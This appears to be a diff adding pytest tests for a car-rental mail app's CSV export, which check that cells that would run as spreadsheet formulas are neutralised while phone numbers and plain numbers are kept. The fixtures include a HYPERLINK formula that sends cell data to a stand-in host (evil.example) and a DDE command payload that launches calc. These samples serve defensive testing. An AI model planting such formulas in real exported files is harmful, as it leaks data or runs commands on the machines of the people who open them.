@@ -1,0 +1,54 @@
+"""What a hostile input can no longer do: each class of attack, checked where it enters."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from avtoprokat_mail.interchange import export_clients
+from avtoprokat_mail.model import Client
+from avtoprokat_mail.storage import clients as client_store
+from avtoprokat_mail.validation import spreadsheet_safe
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Скидка")'
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTAB", "'\tTAB"),
+        ("\rCR", "'\rCR"),
+        ("+79031112233", "+79031112233"),  # a mobile in E.164 stays a phone
+        ("-15", "-15"),  # a plain number stays a number
+        ("+7,5", "+7,5"),
+        ("Иванов", "Иванов"),
+        (42, 42),
+    ],
+)
+def test_a_cell_excel_would_run_as_a_formula_is_neutralised(value, written):
+    assert spreadsheet_safe(value) == written
+
+
+def test_the_clients_csv_neutralises_formulas_and_keeps_phones(db, tmp_path):
+    client_store.add_client(
+        db, Client(surname=HOSTILE, name="@Пётр", email="p@x.example", mobile="+79031112233")
+    )
+    target = tmp_path / "клиенты.csv"
+    export_clients(db, target)
+    header, row = list(csv.reader(io.StringIO(target.read_bytes().decode("cp1251")), delimiter=";"))
+    assert row[0] == "'" + HOSTILE and row[1] == "'@Пётр"
+    assert row[header.index("Сотовый телефон")] == "+79031112233"
+
+
+def test_the_command_lines_csv_neutralises_formulas(cli, db):
+    client_store.add_client(db, Client(surname=HOSTILE, email="p@x.example"))
+    status, out, _ = cli("clients", "list", "--format", "csv")
+    assert status == 0
+    (_header, row) = list(csv.reader(io.StringIO(out)))
+    assert row[1] == "'" + HOSTILE
